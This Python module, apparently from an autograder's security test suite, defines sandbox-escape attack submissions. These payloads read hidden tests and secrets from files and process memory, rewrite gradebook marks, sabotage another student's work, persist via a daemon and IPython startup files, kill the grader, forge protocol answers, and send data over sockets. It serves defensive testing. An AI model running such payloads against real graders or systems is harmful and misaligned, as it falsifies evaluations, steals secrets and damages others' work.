"""Attacks that reach out of the submission: to files, the gradebook, other students, the network, processes."""

from __future__ import annotations

from grader.attacks.attack import NEIGHBOUR, NEXT, Attack

__all__ = ["ATTACKS"]

_MARKS = f"""
import contextlib, sqlite3
def marks():
    with contextlib.suppress(sqlite3.Error, OSError):
        book = sqlite3.connect(f"file:{{ROOT}}/gradebook.db?mode=rw", uri=True, timeout=1)
        whose = ("WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a"
            " ON n.assignment_id = a.id WHERE a.student_id LIKE ?)")
        book.execute("UPDATE grade SET manual_score = 4 " + whose, ["%" + ME])
        book.execute("UPDATE grade SET auto_score = 0 " + whose, ["{NEIGHBOUR}"])
        book.commit()
        book.close()
"""

ATTACKS = (
    Attack(
        "reads_tests",
        "reads the hidden tests from the notebook in the working folder and from source/",
        """
import glob
for file in glob.glob("*.ipynb") + glob.glob(f"{ROOT}/source/*/*.ipynb") + glob.glob(f"{ROOT}/autograded/*/*/*.ipynb"):
    try:
        print(open(file).read()[-60_000:])
    except OSError:
        pass
""",
    ),
    Attack(
        "reads_gradebook",
        "reads the hidden tests from the gradebook",
        """
import sqlite3
try:
    for row in sqlite3.connect(f"file:{ROOT}/gradebook.db?mode=ro", uri=True).execute("SELECT source FROM source_cell"):
        print(row)
except sqlite3.Error:
    pass
""",
    ),
    Attack(
        "reads_secret",
        "reads the class's secret, which seeds the tests, from the environment and from its file",
        """
import glob, os
print(dict(os.environ))
for file in [f"{ROOT}/.grader/secret", "/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        print(open(file, errors="replace").read())
    except OSError:
        pass
""",
    ),
    Attack(
        "secret_in_memory",
        "searches its own memory and that of its parent for the class's secret",
        """
import os, re
for pid in ("self", os.getppid()):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        a, b = (int(v, 16) for v in line.split()[0].split("-"))
        if "rw" in line and b - a < 2**26:
            try:
                memory.seek(a)
                for found in re.findall(rb"GRADER_CLASS_SECRET.{0,90}", memory.read(b - a))[:3]:
                    print(found)
            except (OSError, ValueError):
                pass
""",
    ),
    Attack(
        "secret_in_memory_ctypes",
        "has ctypes hand out the C environment and the arguments of the process",
        """
import ctypes
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
at = 0
while environ[at]:
    print(environ[at])
    at += 1
""",
    ),
    Attack(
        "reads_private",
        "reads somebody's private file outside the class",
        "try:\n    print(open(PRIVATE).read())\nexcept OSError:\n    pass",
    ),
    Attack(
        "writes_gradebook",
        "writes marks into the gradebook: full ones for itself, none for a neighbour",
        _MARKS + "marks()\n",
    ),
    Attack(
        "daemon",
        "leaves a process behind, detached, that writes marks into the gradebook after the grading",
        _MARKS
        + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for stream in (0, 1, 2):
            os.close(stream)
        until = time.monotonic() + 20
        while time.monotonic() < until:
            marks()
            time.sleep(0.2)
    os._exit(0)
""",
    ),
    Attack(
        "at_exit",
        "registers code for the end of the process that writes marks into the gradebook",
        _MARKS + "\nimport atexit\natexit.register(marks)\n",
    ),
    Attack(
        "edits_own_file",
        "rewrites its own autograded notebook and the submission while they are being graded",
        """
import glob, os
for file in glob.glob(f"{ROOT}/autograded/*{ME}/*/*.ipynb") + glob.glob(f"{ROOT}/submitted/*{ME}/*/*.ipynb"):
    try:
        os.chmod(file, 0o644)
        text = open(file).read()
        open(file, "w").write(text.replace('"points": 4', '"points": 400'))
        open(f"{LOOT}/{ME}-wrote", "w").close()
    except OSError:
        pass
""",
    ),
    Attack(
        "spoils_another",
        "empties the answers in the submission of the student who is graded next",
        f"""
import json
file = f"{{ROOT}}/submitted/{NEXT}/02_relu/02_relu.ipynb"
try:
    book = json.load(open(file))
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["source"] = "raise NotImplementedError"
    json.dump(book, open(file, "w"))
except OSError:
    pass
""",
        harms=frozenset({"next"}),
    ),
    Attack(
        "spoils_the_next",
        "writes a start-up file for every later Python that spoils the answers of whoever is graded next",
        """
import os, pathlib
TEXT = "import grader.hidden\\ngrader.hidden.grade = lambda *a: 0.0\\n"
for place in ("~/.ipython/profile_default/startup", os.environ.get("IPYTHONDIR", "~") + "/profile_default/startup"):
    try:
        folder = pathlib.Path(place).expanduser()
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text(TEXT)
    except OSError:
        pass
""",
        harms=frozenset({"next"}),
    ),
    Attack(
        "edits_source",
        "puts an easier test into source/ and into the release",
        """
import glob
for file in glob.glob(f"{ROOT}/source/*/*.ipynb") + glob.glob(f"{ROOT}/release/*/*.ipynb"):
    try:
        text = open(file).read()
        open(file, "w").write(text)
        open(f"{LOOT}/{ME}-wrote", "w").close()
    except OSError:
        pass
""",
    ),
    Attack(
        "edits_the_grader",
        "opens the grader's own files and settings for writing",
        """
import grader, os, pathlib
for file in (pathlib.Path(grader.__file__), pathlib.Path(ROOT, "nbgrader_config.py")):
    try:
        open(file, "a").close()
        open(f"{LOOT}/{ME}-could-write-{file.name}", "w").close()
    except OSError:
        pass
""",
    ),
    Attack(
        "writes_outside",
        "writes files outside its folder, as many bytes as it likes",
        """
import os
for file in (f"{LOOT}/{ME}", f"{ROOT}/{ME}", f"{LOOT}/{ME}-again"):
    try:
        open(file, "wb").write(bytes(2**22))
    except OSError:
        pass
""",
    ),
    Attack(
        "left_for_the_next",
        "leaves files in /tmp and /dev/shm, where the next submission finds them",
        """
for folder in ("/tmp", "/dev/shm"):
    try:
        open(f"{folder}/custom-autograd-{ME}", "w").write(LOOT)
    except OSError:
        pass
""",
    ),
    Attack(
        "network",
        "sends what it found out to a server",
        """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as server:
        server.sendall(ME.encode() + b"\\n")
except OSError:
    pass
""",
    ),
    Attack(
        "reverse_shell",
        "connects to a server, through a program of its own, and does what that says",
        """
import subprocess, sys
TEXT = ("import socket, sys\\ns = socket.create_connection(('127.0.0.1', int(sys.argv[1])), 2)\\n"
    "s.sendall(sys.argv[2].encode() + b'\\\\n')")
try:
    subprocess.run([sys.executable, "-c", TEXT, str(PORT), ME], timeout=20, capture_output=True)
except (OSError, subprocess.SubprocessError):
    pass
""",
    ),
    Attack(
        "ends_the_grader",
        "kills the process that grades it",
        """
import os, signal
if os.getppid() > 1:
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
""",
        harms=frozenset({"next"}),
    ),
    Attack(
        "pickle",
        "sends a pickle that runs code in whoever loads it, on every connection it has",
        """
import os, pickle, stat, struct
class Bomb:
    def __reduce__(self):
        return (open, (f"{LOOT}/{ME}", "w"))
for fd in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            body = pickle.dumps(Bomb())
            os.write(fd, struct.pack(">4sBIQ", b"cagw", 1, 1, len(body)) + body)
    except (OSError, BlockingIOError):
        pass
""",
    ),
    Attack(
        "forged_answer",
        "answers the grader's question itself, on the connection, with everything passed",
        answer="""import gc, os, stat, struct

def forge():
    host = [o for o in gc.get_objects() if type(o).__name__ == "Host"]
    for fd in range(3, 200):
        try:
            if host and stat.S_ISSOCK(os.fstat(fd).st_mode):
                body = b"t\\x00\\x00\\x00\\x02TT"
                os.write(fd, struct.pack(">4sBIQ", b"cagw", 1, host[0].sequence, len(body)) + body)
        except OSError:
            pass

class MyReLU(Function):
    @staticmethod
    def forward(ctx, x):
        return x.clamp(min=0)

    @staticmethod
    def backward(ctx, g):
        forge()
        return g
""",
    ),
    Attack(
        "results_file",
        "overwrites whatever file could hold results: results.json, report, journal",
        """
import glob, json
FAKE = json.dumps({"exercise": "relu", "passed": True, "points": 4.0, "score": 4.0, "key": ""})
names = ["results.json", "/autograder/results/results.json", f"{ROOT}/report.html"]
names += glob.glob(f"{ROOT}/.grader/outcomes/*/*.json") + glob.glob(f"{ROOT}/.grader/*.json*")
for name in names:
    try:
        open(name, "w").write(FAKE)
        if name.startswith(ROOT):
            open(f"{LOOT}/{ME}-wrote", "w").close()
    except OSError:
        pass
""",
    ),
)
